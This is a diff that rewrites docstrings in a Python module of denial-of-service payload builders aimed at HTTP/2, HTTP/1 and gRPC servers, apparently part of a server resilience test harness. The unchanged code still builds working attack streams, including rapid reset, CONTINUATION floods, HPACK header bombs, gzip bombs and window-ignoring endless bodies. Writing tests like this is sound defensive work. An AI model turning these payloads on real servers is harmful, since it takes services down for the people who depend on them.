@@ -13,7 +13,7 @@ from attacks.bytes_on_the_wire import MIB, frame, greeting, headers
 
 @dataclass(frozen=True, slots=True)
 class Ammunition:
-    """What a connection sends: `opening` once, then `blob`, repeatedly if `endless`."""
+    """The bytes that a connection sends: `opening` once, and then `blob`, which is repeated if `endless`."""
 
     opening: bytes = b""
     blob: bytes = b""
@@ -22,13 +22,13 @@ class Ammunition:
 
 @dataclass(frozen=True, slots=True)
 class Weapon:
-    """An attack. `load` builds the bytes to send; it runs in the attacker's process."""
+    """An attack. `load` builds the bytes to send; it is called in the attacker's process."""
 
     load: Callable[[], Ammunition]
     connections: int = 8
     #: Whether the attacker reads the server's answers.
     reads: bool = True
-    #: Bytes that a connection sends every 100 ms; 0 means as fast as it can.
+    #: The number of bytes that a connection sends every 100 ms; 0 means as many as it can.
     trickle: int = 0
     #: Whether a connection is reopened after it was closed or has sent everything.
     reconnects: bool = True
@@ -36,7 +36,7 @@ class Weapon:
     leaves: bool = False
     #: SO_RCVBUF of the attacker.
     receive_buffer: int | None = None
-    #: Allowed memory growth in MiB; larger for attacks with large bodies.
+    #: The allowed memory growth in MiB, which is larger for attacks with large bodies.
     memory: int = 64
 
 
@@ -66,7 +66,7 @@ def rapid_reset_grpc() -> Ammunition:
 
 
 def made_you_reset() -> Ammunition:
-    """Makes the server reset a stream with a window increment of 0, after it took the whole request."""
+    """Makes the server reset a stream by a window increment of 0, after it has received the whole request."""
     encoder = hpack.Encoder()
     message = wire.add1_message()
     blob = b"".join(
@@ -97,7 +97,7 @@ def empty_settings_flood() -> Ammunition:
 
 
 def settings_with_open_streams() -> Ammunition:
-    """Changes of the initial window while many streams are open: the server must adjust every stream."""
+    """Changes the initial window while many streams are open, so that the server must adjust every stream."""
     encoder = hpack.Encoder()
     opened = b"".join(headers(encoder, n, wire.fields("GET", "/"), end=True) for n in range(1, 201, 2))
     change = wire.settings((wire.INITIAL_WINDOW_SIZE, 0)) + wire.settings((wire.INITIAL_WINDOW_SIZE, 1))
@@ -126,7 +126,7 @@ def empty_data() -> Ammunition:
 
 
 def padded_data() -> Ammunition:
-    """One byte of body and 255 of padding per frame, until the window is used up."""
+    """Sends frames with one byte of body and 255 of padding, until the window is used up."""
     piece = frame(wire.DATA, 0x8, 1, b"\xff" + b"x" + bytes(255))
     return Ammunition(greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False), repeated(piece))
 
@@ -137,7 +137,7 @@ def empty_continuation() -> Ammunition:
 
 
 def continuation_flood() -> Ammunition:
-    """A header block that never ends: literals without indexing, 16 KiB per frame."""
+    """Sends a header block that never ends: literals without indexing, 16 KiB per frame."""
     literal = b"\x00\x03x-a\x7f\x81\x7f" + b"y" * 256
     return Ammunition(
         greeting() + frame(wire.HEADERS, 0, 1, hpack.Encoder().encode(wire.GRPC_FIELDS)),
@@ -150,7 +150,7 @@ def window_update_flood() -> Ammunition:
 
 
 def window_dribble() -> Ammunition:
-    """100 calls with responses of 600 KB each, for which the client opens the window one byte at a time."""
+    """Makes 100 calls with responses of 600 KB each, and opens the window for them one byte at a time."""
     encoder = hpack.Encoder()
     body = wire.zipped_ident_message()
     what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
@@ -164,7 +164,7 @@ def window_dribble() -> Ammunition:
 
 
 def unread_http1() -> Ammunition:
-    """Requests of 1 KB whose responses of 600 KB the client never reads."""
+    """Sends requests of 1 KB, and never reads the responses of 600 KB."""
     return Ammunition(b"", repeated(wire.zipped_ident_request()))
 
 
@@ -183,7 +183,9 @@ def unread_http2() -> Ammunition:
 
 
 def header_bomb() -> Ammunition:
-    """A field of 4,000 bytes in the dynamic table, then blocks with 16,000 references to it, 64 MB each."""
+    """Puts a field of 4,000 bytes into the dynamic table, and then sends blocks with 16,000 references to it,
+    which decode to 64 MB each.
+    """
     encoder = hpack.Encoder()
     first = encoder.encode(wire.fields("GET", "/", ("x-bomb", "b" * 3900)))
     blocks = [frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, first)]
@@ -213,7 +215,7 @@ def gzip_bomb_http() -> Ammunition:
 
 
 def gzip_bomb_grpc() -> Ammunition:
-    """A message of 64 KB, small enough for the first window, that decompresses to 64 MB."""
+    """Sends a message of 64 KB, small enough for the first window, that decompresses to 64 MB."""
     encoder = hpack.Encoder()
     what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
     body = wire.grpc_message(wire.bomb(size=63 * MIB), compressed=True)
@@ -250,18 +252,18 @@ def endless_body() -> Ammunition:
 
 
 def endless_body_http2() -> Ammunition:
-    """A body of unknown size that heeds no window."""
+    """Sends a body of unknown size that ignores all windows."""
     begun = headers(hpack.Encoder(), 1, wire.fields("POST", wire.ADD1), end=False)
     return Ammunition(greeting() + begun, repeated(wire.data(1, bytes(65536), end=False)))
 
 
 def large_request() -> Ammunition:
-    """Complete requests of almost the permitted 64 MiB that are not JSON."""
+    """Sends complete requests of almost the permitted 64 MiB that are not JSON."""
     return Ammunition(b"", wire.post(wire.ADD1, bytes(60 * MIB)))
 
 
 def large_message() -> Ammunition:
-    """A gRPC message of almost the permitted 64 MiB that heeds no window."""
+    """Sends a gRPC message of almost the permitted 64 MiB that ignores all windows."""
     begun = headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False)
     prefix = wire.data(1, b"\0" + (63 * MIB).to_bytes(4, "big"), end=False)
     return Ammunition(greeting() + begun + prefix, repeated(wire.data(1, bytes(65536), end=False)))
